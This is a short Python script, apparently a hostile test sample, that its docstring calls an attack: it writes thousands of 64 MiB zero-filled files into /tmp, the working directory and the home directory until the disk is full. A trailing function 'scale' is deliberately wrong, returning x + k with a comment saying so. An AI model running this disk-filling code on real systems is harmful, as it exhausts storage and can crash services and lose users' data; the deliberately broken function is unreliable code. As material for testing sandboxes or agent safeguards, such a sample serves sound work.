"""Attack: fill the disk: write ever more files in /tmp and in the working directory."""
import os

written = 0
for folder in ("/tmp", os.getcwd(), os.path.expanduser("~")):
    for index in range(10_000):
        try:
            with open(os.path.join(folder, f"hostile-marker-fill-{index}"), "wb") as stream:
                for _ in range(64):
                    stream.write(b"\0" * (1 << 20))
                    written += 1 << 20
        except OSError as error:
            print("disk flood stopped in", folder, "after", written, "bytes:", error)
            break


def scale(x, k):
    return x + k  # wrong on purpose: the attack is the point
